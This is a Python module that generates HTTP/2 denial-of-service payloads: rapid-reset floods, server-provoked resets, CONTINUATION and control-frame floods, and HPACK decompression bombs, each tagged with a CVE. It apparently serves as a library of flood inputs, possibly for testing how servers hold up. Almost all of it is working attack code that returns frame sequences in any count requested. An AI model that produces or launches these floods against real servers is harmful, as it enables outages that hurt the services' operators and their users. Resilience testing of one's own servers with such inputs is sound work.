"""Floods over HTTP/2: frames each of which is allowed, or ends a stream at most, and costs the server
more than the client if there is no end to them. Each is a function that gives what a connection is
sent after the preface and SETTINGS: so many of them."""

from frames import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOOD, HEADERS, PADDED,
                    PING, PRIORITY, RST, SETTINGS, WHOLE, WINDOW, literal, number, raw, setting)


def on_streams(make):
    """make(stream) for as many streams."""
    return lambda count: b"".join(make(2 * i + 1) for i in range(count))


def repeated(frame, begin=b""):
    return lambda count: begin + frame * count


def opened(stream):
    """A request whose body has not come."""
    return raw(HEADERS, END_HEADERS, stream, GOOD)


def whole(stream, more=b""):
    return raw(HEADERS, WHOLE, stream, GOOD + more)


def in_pieces(stream):
    return (raw(HEADERS, END_STREAM, stream, GOOD) + raw(CONTINUATION, 0, stream) * 6 +
            raw(CONTINUATION, END_HEADERS, stream))


FIELD = b"\x40\x01a\x7f\xbd\x1e" + b"x" * 4028  # enters the table, which has room for no other


def bombs(references):
    """The field is sent once, and meant by one byte after that."""
    return lambda count: whole(1, FIELD) + b"".join(
        whole(2 * i + 3, b"\xbe" * references) for i in range(count))


CRUMB = b"\x40\x06cookie\x01a"

FLOODS = {
    # CVE-2023-44487: the client ends what it has begun.
    "rapid-reset": on_streams(lambda s: whole(s) + raw(RST, 0, s, number(CANCEL))),
    "rapid-reset-of-open-streams": on_streams(lambda s: opened(s) + raw(RST, 0, s, number(CANCEL))),
    # CVE-2025-8671: it makes the server end it.
    "made-to-reset-by-window-overflow": on_streams(
        lambda s: opened(s) + raw(WINDOW, 0, s, number(0x7fffffff))),
    "made-to-reset-by-window-0": on_streams(lambda s: opened(s) + raw(WINDOW, 0, s, number(0))),
    "made-to-reset-by-priority-of-itself": on_streams(
        lambda s: opened(s) + raw(PRIORITY, 0, s, number(s) + b"\0")),
    "made-to-reset-by-priority-of-4-bytes": on_streams(
        lambda s: opened(s) + raw(PRIORITY, 0, s, b"\0" * 4)),
    "made-to-reset-by-headers-after-the-end": on_streams(lambda s: whole(s) * 2),
    "made-to-reset-by-data-after-the-end": on_streams(lambda s: whole(s) + raw(DATA, 0, s, b"x")),
    "made-to-reset-by-length": on_streams(lambda s: whole(s, literal("content-length", "1"))),
    "made-to-reset-by-trailers": on_streams(
        lambda s: opened(s) + raw(HEADERS, END_HEADERS, s, literal("a", "b"))),
    "made-to-reset-by-a-bad-field": on_streams(lambda s: whole(s, literal("A", "b"))),
    "made-to-reset-by-settings": on_streams(
        lambda s: opened(s) + raw(WINDOW, 0, s, number(0x7fffffff - 65535)) + setting(4, 65536) +
        setting(4, 65535)),
    # CVE-2024-28182 and what is left of it: fields in pieces, without end and with one.
    "continuation": repeated(raw(CONTINUATION, 0, 1), raw(HEADERS, END_STREAM, 1, GOOD)),
    "continuation-7-a-request": lambda count: on_streams(in_pieces)((count + 6) // 7),
    # CVE-2019-9511 to 9518: what has to be answered, or looked at.
    "settings": repeated(raw(SETTINGS)),
    "settings-of-the-table": repeated(setting(1, 0) + setting(1, 4096)),
    "settings-ack": repeated(raw(SETTINGS, ACK)),
    "ping": repeated(raw(PING, 0, 0, b"12345678")),
    "ping-ack": repeated(raw(PING, ACK, 0, b"12345678")),
    "priority": repeated(raw(PRIORITY, 0, 3, number(0) + b"\0")),
    "priority-of-idle-streams": on_streams(lambda s: raw(PRIORITY, 0, s, number(s + 2) + b"\0")),
    "window-update": repeated(raw(WINDOW, 0, 0, number(1))),
    "unknown-frames": repeated(raw(0x42)),
    "empty-data": repeated(raw(DATA, 0, 1), opened(1)),
    "padded-data": repeated(raw(DATA, PADDED, 1, b"\0"), opened(1)),
    "data-of-a-byte": repeated(raw(DATA, 0, 1, b"x"), opened(1)),
    "data-of-a-reset-stream": repeated(
        raw(DATA, END_STREAM, 1) * 2, opened(1) + raw(WINDOW, 0, 1, number(0x7fffffff))),
    "headers-of-a-reset-stream": repeated(
        whole(1), opened(1) + raw(WINDOW, 0, 1, number(0x7fffffff))),
    # Lists of fields that are large when they are unpacked; CVE-2026-49975.
    "hpack-bombs": bombs(6),
    "hpack-bombs-of-small-fields": lambda count: whole(1, CRUMB) + b"".join(
        whole(2 * i + 3, b"\xbe" * 150) for i in range(count)),
    "hpack-bombs-without-end": lambda count: whole(1, FIELD) + whole(3, b"\xbe" * 12000) * count,
}
